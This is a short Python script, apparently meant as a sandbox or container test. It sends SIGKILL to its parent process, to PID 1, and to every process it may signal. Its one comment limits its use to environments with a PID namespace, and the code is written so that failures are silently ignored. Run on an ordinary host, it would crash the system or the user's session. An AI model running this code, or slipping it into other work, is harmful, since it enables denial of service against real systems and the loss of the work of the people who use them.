
# Signal every process it may signal, and its parent. (Only run where a pid namespace exists.)
import os as _os
import signal as _signal

for _target in (_os.getppid(), 1):
    try:
        _os.kill(_target, _signal.SIGKILL)
    except OSError:
        pass
try:
    _os.kill(-1, _signal.SIGKILL)
except OSError:
    pass
